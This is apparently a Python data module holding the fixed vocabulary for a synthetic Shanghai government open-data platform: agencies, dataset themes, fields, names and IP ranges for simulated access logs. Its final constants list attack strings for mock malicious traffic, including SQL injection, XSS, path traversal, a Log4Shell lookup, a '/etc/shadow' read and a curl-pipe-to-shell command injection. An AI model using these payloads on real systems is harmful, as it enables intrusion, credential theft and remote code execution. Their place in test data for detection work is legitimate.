"""Fixed vocabulary of the demo platform: agencies, domains, dataset themes, fields, names.

Plain data only; the generator modules draw from it with a seeded random generator.
"""

from __future__ import annotations

# (agency_id, Chinese name, English name, main domains)
CITY_BUREAUS: list[tuple[str, str, str, tuple[str, ...]]] = [
    ("sh-police", "市公安局", "Shanghai Municipal Public Security Bureau", ("公共安全", "交通出行")),
    ("sh-transport", "市交通委", "Shanghai Municipal Transportation Commission", ("交通出行",)),
    ("sh-health", "市卫生健康委", "Shanghai Municipal Health Commission", ("卫生健康",)),
    ("sh-samr", "市市场监管局", "Shanghai Administration for Market Regulation", ("信用服务", "经济建设")),
    (
        "sh-planning",
        "市规划资源局",
        "Shanghai Planning and Natural Resources Bureau",
        ("城市建设", "资源环境"),
    ),
    ("sh-ecology", "市生态环境局", "Shanghai Ecology and Environment Bureau", ("资源环境",)),
    ("sh-education", "市教委", "Shanghai Municipal Education Commission", ("教育科技",)),
    ("sh-civil", "市民政局", "Shanghai Civil Affairs Bureau", ("社会民生", "机构团体")),
    ("sh-hrss", "市人社局", "Shanghai Human Resources and Social Security Bureau", ("社会民生",)),
    (
        "sh-housing",
        "市住房城乡建设管理委",
        "Shanghai Housing and Urban-Rural Development Management Commission",
        ("城市建设",),
    ),
    ("sh-culture", "市文化旅游局", "Shanghai Culture and Tourism Bureau", ("文化休闲",)),
    ("sh-commerce", "市商务委", "Shanghai Municipal Commission of Commerce", ("经济建设",)),
    (
        "sh-economy",
        "市经济信息化委",
        "Shanghai Economy and Informatization Commission",
        ("经济建设", "教育科技"),
    ),
    ("sh-stats", "市统计局", "Shanghai Municipal Statistics Bureau", ("经济建设", "社会民生")),
    ("sh-water", "市水务局", "Shanghai Water Authority", ("资源环境",)),
    (
        "sh-greening",
        "市绿化市容局",
        "Shanghai Landscaping and City Appearance Administrative Bureau",
        ("资源环境", "城市建设"),
    ),
    ("sh-weather", "市气象局", "Shanghai Meteorological Service", ("气象服务",)),
    ("sh-tax", "市税务局", "Shanghai Municipal Tax Service", ("财税金融", "信用服务")),
    (
        "sh-ndrc",
        "市发展改革委",
        "Shanghai Municipal Development and Reform Commission",
        ("经济建设", "信用服务"),
    ),
    ("sh-finance", "市财政局", "Shanghai Municipal Finance Bureau", ("财税金融",)),
    ("sh-science", "市科委", "Science and Technology Commission of Shanghai Municipality", ("教育科技",)),
    ("sh-justice", "市司法局", "Shanghai Municipal Justice Bureau", ("公共安全", "机构团体")),
    ("sh-agri", "市农业农村委", "Shanghai Agriculture and Rural Affairs Commission", ("农业农村",)),
    ("sh-emergency", "市应急局", "Shanghai Emergency Management Bureau", ("公共安全",)),
    ("sh-sports", "市体育局", "Shanghai Administration of Sports", ("文化休闲",)),
    ("sh-medinsure", "市医保局", "Shanghai Healthcare Security Administration", ("卫生健康", "社会民生")),
    ("sh-houseadmin", "市房屋管理局", "Shanghai Housing Administration Bureau", ("城市建设", "社会民生")),
    ("sh-civildef", "市民防办", "Shanghai Civil Defense Office", ("公共安全",)),
    (
        "sh-sasac",
        "市国资委",
        "Shanghai State-owned Assets Supervision and Administration Commission",
        ("经济建设", "机构团体"),
    ),
    (
        "sh-finreg",
        "市地方金融监管局",
        "Shanghai Local Financial Supervision and Administration Bureau",
        ("财税金融",),
    ),
    ("sh-archives", "市档案局", "Shanghai Municipal Archives Bureau", ("文化休闲", "机构团体")),
    ("sh-mpa", "市药品监管局", "Shanghai Medical Products Administration", ("卫生健康", "信用服务")),
    ("sh-veterans", "市退役军人局", "Shanghai Veterans Affairs Bureau", ("社会民生",)),
    ("sh-ipr", "市知识产权局", "Shanghai Intellectual Property Administration", ("教育科技", "信用服务")),
]

# (agency_id, Chinese name, English name, administrative division code used in credit codes)
DISTRICTS: list[tuple[str, str, str, str]] = [
    ("sh-huangpu", "黄浦区", "Huangpu District", "310101"),
    ("sh-xuhui", "徐汇区", "Xuhui District", "310104"),
    ("sh-changning", "长宁区", "Changning District", "310105"),
    ("sh-jingan", "静安区", "Jing'an District", "310106"),
    ("sh-putuo", "普陀区", "Putuo District", "310107"),
    ("sh-hongkou", "虹口区", "Hongkou District", "310109"),
    ("sh-yangpu", "杨浦区", "Yangpu District", "310110"),
    ("sh-minhang", "闵行区", "Minhang District", "310112"),
    ("sh-baoshan", "宝山区", "Baoshan District", "310113"),
    ("sh-jiading", "嘉定区", "Jiading District", "310114"),
    ("sh-pudong", "浦东新区", "Pudong New Area", "310115"),
    ("sh-jinshan", "金山区", "Jinshan District", "310116"),
    ("sh-songjiang", "松江区", "Songjiang District", "310117"),
    ("sh-qingpu", "青浦区", "Qingpu District", "310118"),
    ("sh-fengxian", "奉贤区", "Fengxian District", "310120"),
    ("sh-chongming", "崇明区", "Chongming District", "310151"),
]

# Dataset themes per domain: (name, row scale, sensitive) — sensitive themes are opened conditionally.
THEMES: dict[str, list[tuple[str, int, bool]]] = {
    "交通出行": [
        ("公交线路站点信息", 20_000, False),
        ("轨道交通客流统计", 80_000, False),
        ("公共停车场泊位实时信息", 150_000, False),
        ("道路交通事故统计", 30_000, True),
        ("出租车运营里程数据", 400_000, True),
        ("共享单车停放区域", 12_000, False),
        ("机动车驾驶培训机构名录", 2_000, False),
        ("货运车辆GPS轨迹", 900_000, True),
    ],
    "卫生健康": [
        ("医疗机构名录", 8_000, False),
        ("药品零售企业信息", 15_000, False),
        ("传染病疫情统计", 5_000, True),
        ("出生医学证明签发统计", 3_000, True),
        ("家庭医生签约服务统计", 6_000, False),
        ("医疗机构床位资源", 4_000, False),
    ],
    "经济建设": [
        ("规模以上工业企业产值", 12_000, False),
        ("外商投资企业名录", 40_000, True),
        ("重点项目建设进展", 3_000, False),
        ("商业网点分布", 60_000, False),
        ("企业用电量统计", 200_000, True),
        ("产业园区信息", 1_500, False),
    ],
    "教育科技": [
        ("中小学校名录", 3_000, False),
        ("高新技术企业认定名单", 25_000, False),
        ("科技成果登记信息", 18_000, False),
        ("学生体质健康监测统计", 50_000, True),
        ("专利授权信息", 300_000, False),
    ],
    "城市建设": [
        ("建设工程施工许可", 35_000, False),
        ("商品房预售许可", 9_000, False),
        ("既有多层住宅加装电梯进展", 6_000, False),
        ("城市道路挖掘许可", 14_000, False),
        ("房屋租赁合同备案", 500_000, True),
    ],
    "社会民生": [
        ("养老机构名录", 1_200, False),
        ("社区服务中心信息", 2_500, False),
        ("最低生活保障统计", 4_000, True),
        ("就业登记统计", 90_000, True),
        ("婚姻登记机关信息", 300, False),
        ("社会保险参保统计", 120_000, True),
    ],
    "资源环境": [
        ("空气质量实时监测", 250_000, False),
        ("地表水水质监测", 40_000, False),
        ("重点排污单位名录", 5_000, False),
        ("垃圾分类收运点", 22_000, False),
        ("排污许可证信息", 16_000, True),
        ("公园绿地名录", 900, False),
    ],
    "信用服务": [
        ("行政许可信息", 600_000, False),
        ("行政处罚信息", 220_000, False),
        ("企业经营异常名录", 80_000, True),
        ("守信激励对象名单", 10_000, False),
        ("失信被执行人信息", 45_000, True),
    ],
    "公共安全": [
        ("消防重点单位名录", 7_000, True),
        ("应急避难场所", 1_100, False),
        ("危险化学品经营许可", 3_500, True),
        ("110警情分类统计", 60_000, True),
    ],
    "文化休闲": [
        ("A级旅游景区名录", 150, False),
        ("博物馆名录", 160, False),
        ("公共文化场馆活动预告", 18_000, False),
        ("体育场馆开放信息", 2_000, False),
        ("档案馆馆藏目录", 70_000, False),
    ],
    "机构团体": [
        ("社会团体登记信息", 4_500, False),
        ("民办非企业单位信息", 9_000, False),
        ("律师事务所名录", 2_200, False),
        ("国有企业名录", 3_000, False),
    ],
    "财税金融": [
        ("纳税信用A级纳税人名单", 60_000, False),
        ("政府采购公告", 40_000, False),
        ("地方金融组织名录", 2_800, False),
        ("财政预算执行情况", 1_000, False),
        ("企业纳税明细", 700_000, True),
    ],
    "农业农村": [
        ("农产品批发市场价格", 100_000, False),
        ("家庭农场名录", 3_200, False),
        ("农药经营许可信息", 1_700, True),
    ],
    "气象服务": [
        ("自动气象站逐时观测", 800_000, False),
        ("气象灾害预警信号", 6_000, False),
        ("空气污染气象条件预报", 9_000, False),
    ],
}

# Column vocabulary: (name, type, description). Abbreviated names come with their meaning;
# datasets with poor metadata drop the description.
COMMON_FIELDS: list[tuple[str, str, str]] = [
    ("record_id", "string", "记录唯一标识"),
    ("district", "string", "所属行政区"),
    ("address", "string", "详细地址"),
    ("update_time", "datetime", "数据更新时间"),
    ("longitude", "float", "经度（WGS84）"),
    ("latitude", "float", "纬度（WGS84）"),
    ("name", "string", "名称"),
    ("status", "string", "状态"),
    ("stat_date", "date", "统计日期"),
    ("category", "string", "分类"),
    ("value", "float", "数值"),
    ("unit", "string", "计量单位"),
]
ABBREVIATED_FIELDS: list[tuple[str, str, str]] = [
    ("addr_cd", "string", "地址编码"),
    ("tm_stmp", "datetime", "时间戳"),
    ("org_cd", "string", "组织机构代码"),
    ("xzqh_dm", "string", "行政区划代码"),
    ("tjrq", "date", "统计日期"),
    ("zt_bz", "string", "状态标志"),
    ("lx_dm", "string", "类型代码"),
    ("fzjg", "string", "发证机关"),
]
SENSITIVE_FIELDS: list[tuple[str, str, str]] = [
    ("legal_person", "string", "法定代表人"),
    ("contact_phone", "string", "联系电话"),
    ("credit_code", "string", "统一社会信用代码"),
    ("id_card_no", "string", "身份证件号码（脱敏）"),
    ("plate_no", "string", "车牌号码"),
    ("amount", "decimal", "金额（元）"),
    ("owner_name", "string", "权利人名称"),
    ("license_no", "string", "许可证编号"),
]

FORMATS = ("api", "csv", "json", "xml", "xlsx", "pdf", "doc", "other")
FORMAT_WEIGHTS = (0.34, 0.22, 0.12, 0.05, 0.14, 0.06, 0.03, 0.04)
FREQUENCIES = ("realtime", "daily", "weekly", "monthly", "quarterly", "yearly", "irregular")
FREQUENCY_WEIGHTS = (0.08, 0.17, 0.10, 0.25, 0.17, 0.18, 0.05)
FREQUENCY_DAYS = {
    "realtime": 1,
    "daily": 1,
    "weekly": 7,
    "monthly": 31,
    "quarterly": 92,
    "yearly": 366,
    "irregular": 366,
}

CONDITIONS = (
    "申请主体须为依法登记的法人或非法人组织，提供数据安全管理制度及应用场景说明。",
    "须签署数据利用协议，数据仅限协议约定场景使用，不得向第三方提供。",
    "须具备数据安全保护能力，通过网络安全等级保护二级及以上测评。",
    "科研机构凭项目立项材料申请，成果发布前须经数据开放主体审核。",
)

# Application scenarios as agreements name them (the `scenario` log field carries the same names).
SCENARIOS = (
    "交通出行规划",
    "企业信用评估",
    "学术研究",
    "公共卫生服务",
    "城市精细化治理",
    "智慧零售",
    "保险精算定价",
    "生态环境监测",
    "物流配送优化",
    "金融风险控制",
    "文旅信息服务",
    "住房保障服务",
)

SURNAMES = (
    "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗郑梁谢宋唐许韩冯邓曹彭曾肖田董袁潘于蒋蔡余杜叶程苏魏吕丁任沈"
)
GIVEN = "伟芳娜敏静丽强磊军洋勇艳杰娟涛明超秀霞平刚桂英华玉兰萍鹏辉建文斌宇浩凯晨瑶琳欣怡婷雪峰"
COMPANY_CORE = (
    "浦江",
    "申城",
    "东方",
    "海纳",
    "云图",
    "数智",
    "华腾",
    "星河",
    "卓越",
    "汇通",
    "启明",
    "锦程",
    "融信",
    "同创",
    "鼎新",
    "万象",
    "博远",
    "致远",
    "新航",
    "天衡",
    "联合",
    "智行",
    "安信",
    "睿思",
)
COMPANY_TRADE = (
    "信息科技",
    "数据服务",
    "网络科技",
    "物流",
    "保险经纪",
    "征信服务",
    "智能科技",
    "交通科技",
    "环境科技",
    "医疗科技",
    "金融信息服务",
    "地理信息",
)
ORG_NAMES = (
    "城市规划研究院",
    "交通运输研究所",
    "公共卫生研究中心",
    "大学数据科学学院",
    "社会科学院",
    "环境科学研究院",
    "消费者权益保护委员会",
    "信用服务行业协会",
    "智慧城市促进会",
    "统计学会",
    "大数据联盟",
    "软件行业协会",
)

USER_AGENTS = (
    "python-requests/2.31.0",
    "python-requests/2.32.3",
    "Apache-HttpClient/4.5.14 (Java/17.0.8)",
    "okhttp/4.12.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "SHOpenData-SDK/2.3.1 (Java)",
    "SHOpenData-SDK/1.8.0 (Python)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) "
    "AppleWebKit/605.1.15 Mobile/15E148 MicroMessenger/8.0.47",
    "PostmanRuntime/7.37.3",
)
RARE_USER_AGENTS = (
    "Go-http-client/1.1",
    "curl/7.29.0",
    "Wget/1.14 (linux-gnu)",
    "libwww-perl/6.05",
    "Scrapy/2.11.0 (+https://scrapy.org)",
    "aiohttp/3.9.5",
)

# Shanghai broadband and cloud networks (first two octets) for the address plan.
CONSUMER_NETS = (
    (101, 80),
    (101, 81),
    (101, 82),
    (180, 152),
    (180, 153),
    (180, 154),
    (116, 224),
    (116, 226),
    (112, 64),
    (112, 65),
    (58, 32),
    (58, 33),
    (222, 64),
    (222, 65),
    (61, 151),
    (140, 206),
)
ANON_NETS = (
    (114, 80),
    (114, 81),
    (114, 82),
    (114, 83),
    (117, 131),
    (117, 132),
    (183, 192),
    (183, 193),
    (223, 104),
    (223, 166),
    (36, 152),
    (36, 153),
    (39, 144),
    (39, 149),
    (42, 236),
    (49, 65),
)
CLOUD_NETS = (
    (47, 100),
    (47, 101),
    (47, 102),
    (106, 14),
    (106, 15),
    (139, 224),
    (139, 196),
    (118, 31),
    (121, 40),
    (119, 3),
    (43, 129),
    (45, 77),
    (185, 220),
    (89, 248),
    (103, 75),
    (154, 223),
)

INJECTIONS = (
    "' OR 1=1 --",
    "1 UNION SELECT username,password FROM users",
    "../../etc/passwd",
    "<script>alert(document.cookie)</script>",
    "1;DROP TABLE records",
    "${jndi:ldap://x/a}",
)

# Networks of the distributed harvesters (hosting ranges, one /24 or /48 per episode).
HARVESTER_NETS = ((45, 133), (45, 141), (91, 240), (185, 220))
# A company's egress network (one address per company).
EGRESS_NET = (101, 230)
# Search engines' crawler networks and user agents.
CRAWLERS = (
    ("66.249.66", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("220.181.108", "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"),
    ("40.77.167", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    ("123.126.113", "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)"),
)
SCANNER_AGENTS = (
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "python-requests/2.25.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "masscan/1.3",
)
# What scanners ask for (OWASP WSTG-CONF-04 and -05): admin consoles, dotfiles, backups.
SENSITIVE_PATHS = (
    "/wp-login.php", "/administrator/", "/admin.php", "/phpmyadmin/index.php", "/.env", "/.git/config",
    "/wp-config.php.bak", "/index.php~", "/config.php.old", "/backup.zip", "/manager/html", "/.svn/entries",
    "/actuator/env", "/server-status", "/xmlrpc.php", "/db.sql", "/.DS_Store", "/.htpasswd",
)
# Injection attempts as they arrive in a query parameter, one per attack class and a few variations.
ATTACKS = (
    "1' OR '1'='1' -- ",
    "-1 UNION ALL SELECT NULL,username,password FROM users#",
    "\"><svg/onload=alert(document.domain)>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fwindows%2fwin.ini",
    "%0d%0aSet-Cookie:%20session=evil",
    "127.0.0.1; cat /etc/shadow",
    "$(curl -s http://203.0.113.66/x.sh | sh)",
    "{{7*7}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "1 AND SLEEP(5)",
)
# Parameters an endpoint has never had, and values of a shape it has never been sent.
TAMPERED_PARAMS = (
    {"page": 1, "debug": "1"},
    {"page": 1, "admin": "true"},
    {"page": "all", "page_size": 100},
    {"page": 1, "page_size": "max"},
    {"page": 1, "internal": "yes", "role": "owner"},
    {"page": 1, "export_all": 1},
)
